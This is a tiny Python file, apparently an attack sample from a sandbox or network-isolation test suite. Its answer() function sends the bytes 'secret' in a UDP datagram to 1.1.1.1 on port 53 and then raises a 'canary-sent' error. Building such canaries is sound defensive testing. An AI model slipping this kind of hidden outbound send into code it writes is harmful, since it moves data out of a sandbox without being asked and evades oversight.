"""Sends a datagram (attack 95)."""
import socket
def answer(*a, **k):
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'secret', ('1.1.1.1', 53))
    raise RuntimeError('canary-sent')
